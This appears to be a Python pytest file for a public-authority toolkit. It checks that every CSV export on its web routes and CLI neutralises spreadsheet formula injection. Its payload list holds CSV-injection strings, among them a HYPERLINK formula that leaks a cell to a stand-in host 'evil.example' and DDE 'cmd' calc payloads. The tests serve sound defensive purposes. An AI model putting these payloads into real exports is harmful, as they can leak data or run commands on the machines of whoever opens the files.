"""No CSV the toolkit writes can carry a live spreadsheet formula (issue 12).

Formula-shaped text (``=``, ``+``, ``-``, ``@``, tab, CR, also after leading
spaces or quotes) goes into every field a user can set that reaches a CSV;
then every cell of every CSV of each exporting route and CLI command is
checked. Numbers stay numbers: a negative change is ``-1.00``, not text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given
from hypothesis import strategies as st
from selbstcheck_support import add_responses, breakdown_round

from willkommen_core import plan
from willkommen_core.cli import cli
from willkommen_core.exports import csv_text, from_spreadsheet_safe, spreadsheet_safe
from willkommen_core.rollout import summary as signing
from willkommen_core.testing import login
from willkommen_core.testing.instance import csrf_from
from willkommen_plugins.fortbildung import store as fortbildung
from willkommen_plugins.fortbildung.model import EntryData, SessionData
from willkommen_plugins.partner import categories, exchange
from willkommen_plugins.partner import store as partners
from willkommen_plugins.prozesse import store as prozesse
from willkommen_plugins.selbstcheck import store as selbstcheck

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1;"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "   =3+3",
    '"=4+4"',
    "＝5+5",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def payload(i: int, suffix: str = "") -> str:
    return PAYLOADS[i % len(PAYLOADS)] + suffix


def live_formula(cell: str) -> bool:
    """Would a spreadsheet program run this cell? (An apostrophe first makes it text.)"""
    if cell.startswith("'") or NUMBER.fullmatch(cell):
        return False
    return cell.lstrip(" \u00a0\"'").startswith(FORMULA_START)


def cells(data: str | bytes) -> list[str]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    delimiter = ";" if text.startswith("\ufeff") else ","
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_safe(data: str | bytes, expected: Iterable[str]) -> None:
    found = cells(data)
    assert found, "empty export"
    live = [c for c in found if live_formula(c)]
    assert not live, f"live formulas: {live}"
    # The test is only worth something if the payloads reached the export.
    missing = [p for p in expected if not any(p.strip() in c for c in found)]
    assert not missing, f"not in the export: {missing}"


def _post(client: Any, page_url: str, url: str, data: dict[str, Any], **kw: Any) -> Any:
    token = csrf_from(client.get(page_url).text)
    return client.post(url, data={**data, "csrf_token": token}, follow_redirects=False, **kw)


def partner_csv(offset: int) -> bytes:
    """An import file: every free-text column formula-shaped, one partner per payload."""
    out = io.StringIO()
    w = csv.writer(out, delimiter=";")
    text = ("services", "contact_person", "street", "city", "opening_hours", "notes")
    w.writerow(["name", "category", "phone", *text])
    for i in range(len(PAYLOADS)):
        w.writerow([payload(i, f" {offset + i}"), "netzwerk", "+49 391 540-0", *[payload(i)] * 6])
    return out.getvalue().encode("utf-8")


# -- the writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*PAYLOADS, " @x", "'=x", "\u00a0=x", '  "+x'])
def test_formula_shaped_text_is_neutralised_and_comes_back_on_import(value):
    cell = spreadsheet_safe(value)
    assert cell.startswith("'") and cell[1:] == value
    assert from_spreadsheet_safe(cell) == value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, True, None])
def test_numbers_stay_numbers(value):
    assert spreadsheet_safe(value) == ("" if value is None else str(value))


CELL = st.text() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)


@given(st.lists(st.lists(CELL, max_size=4)))
def test_no_cell_of_any_input_is_a_live_formula(rows):
    for dialect in ({}, {"delimiter": ",", "bom": False, "lineterminator": "\n"}):
        assert not [c for c in cells(csv_text(["a"], rows, **dialect)) if live_formula(c)]


# -- partner list: web and CLI, import and export ---------------------------------------------


def test_partner_exports_on_the_web_and_the_cli(make_sqlite_instance, make_client, tmp_path):
    instance = make_sqlite_instance(["partner"])
    client = make_client(instance)
    login(client, instance, "leitung")
    imported = _post(
        client,
        "/partner/import",
        "/partner/import",
        {},
        files={"file": ("liste.csv", partner_csv(0), "text/csv")},
    )
    assert imported.status_code == 303, imported.text
    source = tmp_path / "import.csv"
    source.write_bytes(partner_csv(100))
    run = CliRunner().invoke(
        cli, ["--instance", str(instance.root), "partner", "import", str(source)]
    )
    assert run.exit_code == 0, run.output
    expected = [*PAYLOADS, "+49 391 540-0"]

    assert_safe(client.get("/partner/export.csv").content, expected)
    out = tmp_path / "export.csv"
    root = ["--instance", str(instance.root), "partner", "export"]
    assert CliRunner().invoke(cli, [*root, "--output", str(out)]).exit_code == 0
    assert_safe(out.read_bytes(), expected)
    assert_safe(CliRunner().invoke(cli, root).stdout, expected)

    # The toolkit's own export imports back to the same partners.
    again = make_sqlite_instance(["partner"])
    exchange.import_csv(again.db, out.read_bytes(), categories.load(again))
    assert [
        vars(p) | {"id": 0, "created_at": 0, "updated_at": 0} for p in partners.search(again.db)
    ] == [
        vars(p) | {"id": 0, "created_at": 0, "updated_at": 0} for p in partners.search(instance.db)
    ]


# -- the action plan (core) --------------------------------------------------------------------


def test_action_plan_export(make_sqlite_instance, make_client):
    instance = make_sqlite_instance([])
    for i in range(len(PAYLOADS)):
        gid = plan.create_group(instance.db, payload(i, f" {i}"), payload(i))
        plan.add_measure(
            instance.db,
            plan.MeasureInput(
                title=payload(i),
                description=payload(i),
                group_id=str(gid),
                owner=payload(i),
                source=payload(i),
            ),
        )
    client = make_client(instance)
    login(client, instance, "leitung")
    assert_safe(client.get("/plan/export.csv").text, PAYLOADS)


# -- staff development: catalogue, annual plan, participation ------------------------------------


def test_training_exports(make_sqlite_instance, make_client):
    instance = make_sqlite_instance(["fortbildung", "partner"])
    exchange.import_csv(instance.db, partner_csv(0), categories.load(instance))
    partner_ids = [p.id for p in partners.search(instance.db)]
    for i in range(len(PAYLOADS)):
        entry = fortbildung.create_entry(
            instance.db,
            EntryData(
                key=f"eintrag-{i}",
                title=payload(i),
                category="fachlich",
                format="intern",
                duration_hours=1.5,
                provider=payload(i),
                partner_id=partner_ids[i],
                description=payload(i),
            ),
        )
        session = fortbildung.create_session(
            instance.db,
            SessionData(
                entry_id=entry,
                starts_at=datetime(2014, 3, 1 + i, 9),
                ends_at=datetime(2014, 3, 1 + i, 11),
                title=payload(i, " Termin"),
                location=payload(i),
                notes=payload(i),
            ),
        )
        fortbildung.register(instance.db, session, "MA-01", attended=True)
    client = make_client(instance)
    login(client, instance, "leitung")
    assert_safe(client.get("/fortbildung/katalog.csv").text, PAYLOADS)
    assert_safe(client.get("/fortbildung/plan.csv?jahr=2014").text, PAYLOADS)
    assert_safe(client.get("/fortbildung/teilnahme/MA-01/export.csv").text, PAYLOADS)


# -- the change process: template titles and step fields ------------------------------------------


def test_process_plan_export(make_sqlite_instance, make_client):
    instance = make_sqlite_instance(["prozesse"], prozesse={"template": "formeln"})
    folder = instance.root / "content" / "prozesse" / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    # A local template (content the authority edits): phase, step and participant titles.
    (folder / "formeln.toml").write_text(
        f"""
version = "2025.1"
title = "Formeln"
participants = {{ netz = {json.dumps(PAYLOADS[0])} }}

[[phases]]
id = "start"
title = {json.dumps(PAYLOADS[1])}

[[phases.steps]]
id = "kickoff"
title = {json.dumps(PAYLOADS[2])}
offset_weeks = 1
participants = ["netz"]
""",
        encoding="utf-8",
    )
    assert instance.check() == []
    client = make_client(instance)
    login(client, instance, "leitung")
    started = _post(
        client, "/prozesse/", "/prozesse/starten", {"template": "formeln", "start": "2025-01-06"}
    )
    assert started.status_code == 303, started.text
    current = prozesse.load(instance.db)
    for i in range(len(PAYLOADS)):
        prozesse.add_step(
            instance.db,
            current,
            prozesse.StepInput(
                phase_id=str(current.phases[0].id),
                title=payload(i),
                description=payload(i),
                owner=payload(i),
                expected_result=payload(i),
                result_notes=payload(i),
            ),
            set(),
        )
    assert_safe(client.get("/prozesse/export.csv").text, PAYLOADS)


# -- the self-assessment's results (switched to the shared writer by the lead) --------------------


def test_self_assessment_results_export(make_sqlite_instance, make_client):
    areas = [payload(i, f" {i}").strip() for i in range(len(PAYLOADS))]
    instance = make_sqlite_instance(["selbstcheck"], selbstcheck={"work_areas": areas})
    rnd, codes = breakdown_round(instance)  # results by work area need one-time codes
    for area in areas:
        add_responses(instance, rnd, 5, area=area, codes=codes)
    selbstcheck.close_round(instance.db, rnd.id)
    client = make_client(instance)
    login(client, instance, "leitung")
    assert_safe(client.get(f"/selbstcheck/runden/{rnd.id}/ergebnisse.csv").text, areas)


# -- the state report -------------------------------------------------------------------------


def test_state_report_csv_from_the_cli(tmp_path):
    key = Ed25519PrivateKey.generate()

    def round_(title: str, closed: str, mean: float) -> dict[str, Any]:
        return {
            "title": title,
            "closed_on": closed,
            "questionnaire_version": PAYLOADS[6],
            "responses": 12,
            "cornerstones": [
                {"id": cid, "n": 12, "mean": mean, "suppressed": False}
                for cid in ("binnenorganisation", PAYLOADS[4])
            ],
        }

    doc = {
        "schema": "willkommen.summary/1",
        "authority": {
            "slug": "harz",
            "name": PAYLOADS[0],
            "type": PAYLOADS[1],
            "federal_state": "Sachsen-Anhalt",
        },
        "toolkit_version": "0.1.0",
        "created": PAYLOADS[7],
        "sequence": 1,
        "modules": {
            "selbstcheck": {
                "schema_version": 1,
                "rounds": [
                    round_("Erste", "2025-01-01", 4.0),
                    round_(PAYLOADS[2], "2026-01-01", 3.0),
                ],
            },
            "prozesse": {
                "schema_version": 1,
                "started": True,
                "phase": {"title": PAYLOADS[3], "index": 1, "total": 5},
            },
        },
    }
    summary = tmp_path / "harz.json"
    summary.write_text(json.dumps(signing.sign(doc, key)), encoding="utf-8")
    public = signing.sign({}, key)["signature"]["public_key"]
    keys = tmp_path / "keys.json"
    keys.write_text(
        json.dumps(
            {
                "schema": "willkommen.keys/1",
                "authorities": {"harz": {"public_key": public, "status": PAYLOADS[5]}},
            }
        )
    )
    out = tmp_path / "bericht"
    result = CliRunner().invoke(
        cli, ["land", "report", str(summary), "--output", str(out), "--keys", str(keys)]
    )
    assert result.exit_code == 0, result.output
    text = (out / "landesbericht.csv").read_text(encoding="utf-8")
    assert_safe(text, PAYLOADS[:8])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["change"] for r in rows} == {"-1.00"}  # a number, not neutralised text
    assert {r["mean"] for r in rows} == {"3.00"}


def test_every_csv_writer_goes_through_the_shared_one():
    """A new ``csv.writer`` elsewhere would bypass the neutralisation."""
    import willkommen_core
    import willkommen_plugins

    roots = [Path(willkommen_core.__file__).parent, Path(willkommen_plugins.__file__).parent]
    writers = [
        str(path.relative_to(root.parent))
        for root in roots
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["willkommen_core/exports.py"]
